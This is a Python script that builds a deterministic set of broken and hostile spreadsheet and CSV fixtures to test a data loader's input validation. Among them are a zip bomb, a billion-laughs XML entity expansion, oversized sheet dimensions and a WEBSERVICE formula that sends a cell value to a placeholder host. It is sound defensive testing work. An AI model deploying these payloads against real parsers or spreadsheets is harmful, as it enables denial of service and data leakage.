# ruff: noqa: E501
"""Write the corpus of broken and hostile input files (tests/data/hostile/).

Run ``python tests/data/make_hostile.py``; the output is deterministic and
committed. Every file is smaller than 200 KB. tests/test_hostile_files.py
expects each to give one clear InputError.
"""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path

OUT = Path(__file__).resolve().parent / "hostile"
STAMP = (2024, 1, 1, 0, 0, 0)

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Judgments" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _istr(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _sheet(rows: str, dimension: str = "A1:C3") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {NS}>'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )


GOOD_ROWS = (
    '<row r="1">' + _istr("A1", "query") + _istr("B1", "doc") + _istr("C1", "grade") + "</row>"
    '<row r="2">' + _istr("A2", "q1") + _istr("B2", "d1") + '<c r="C2"><v>2</v></c></row>'
    '<row r="3">' + _istr("A3", "q1") + _istr("B3", "d2") + '<c r="C3"><v>0</v></c></row>'
)
SHARED = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst {NS} count="0" uniqueCount="0"/>'


def _xlsx(sheet: str, shared: str = SHARED, extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in (
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", sheet),
            ("xl/sharedStrings.xml", shared),
        ):
            zf.writestr(zipfile.ZipInfo(name, STAMP), data, zipfile.ZIP_DEFLATED)
        for name, blob in (extra or {}).items():
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            with zf.open(info, "w", force_zip64=True) as fh:
                fh.write(blob)
    return buf.getvalue()


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in (
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/sharedStrings.xml", SHARED),
        ):
            zf.writestr(zipfile.ZipInfo(name, STAMP), data, zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", STAMP)
        info.compress_type = zipfile.ZIP_DEFLATED
        chunk = b" " * (1 << 20)
        with zf.open(info, "w", force_zip64=True) as fh:
            fh.write(_sheet(GOOD_ROWS).encode()[:-len("</worksheet>")])
            for _ in range(150):  # 150 MiB of blanks inside the sheet
                fh.write(chunk)
            fh.write(b"</worksheet>")
    return buf.getvalue()


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + f']>\n<sst {NS} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)

FORMULA_ROWS = (
    '<row r="1">' + _istr("A1", "query") + _istr("B1", "doc") + _istr("C1", "grade") + "</row>"
    '<row r="2">' + _istr("A2", "q1") + _istr("B2", "d1") + '<c r="C2"><v>2</v></c></row>'
    '<row r="3">' + _istr("A3", "q1") + _istr("B3", "d2")
    + '<c r="C3"><f>WEBSERVICE("http://example.invalid/?"&amp;A3)</f><v>3</v></c></row>'
)


def build() -> dict[str, bytes]:
    rng = random.Random(20240101)
    good = _xlsx(_sheet(GOOD_ROWS))
    files = {
        "not_a_zip.xlsx": b"query,doc,grade\nq1,d1,2\n",
        "truncated.xlsx": good[: len(good) // 2],
        "encrypted.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256)
                                                                    for _ in range(4088)),
        "old_format.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088),
        "billion_laughs.xlsx": _xlsx(_sheet(GOOD_ROWS), shared=BILLION_LAUGHS),
        "zip_bomb.xlsx": _zip_bomb(),
        "million_columns.xlsx": _xlsx(_sheet(GOOD_ROWS, dimension="A1:BDWGN3")),
        "far_cell.xlsx": _xlsx(_sheet(
            GOOD_ROWS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        "formulas.xlsx": _xlsx(_sheet(FORMULA_ROWS)),
        "empty.csv": b"",
        "garbage.csv": bytes(rng.randrange(256) for _ in range(8192)),
        "nan_grades.csv": b"query,doc,grade\nq1,d1,2\nq1,d2,NaN\nq1,d3,1\n",
        "cp1252_labels.csv": "topic,document,label\nq1,café,Très pertinent\n"
        .encode("cp1252"),
        "duplicates.csv": b"query,doc,grade,score\nq1,d1,2,0.9\nq1,d2,0,0.5\nq1,d1,2,0.9\n",
    }
    return files


def main() -> None:
    OUT.mkdir(exist_ok=True)
    for name, data in build().items():
        assert len(data) < 200_000, (name, len(data))
        (OUT / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
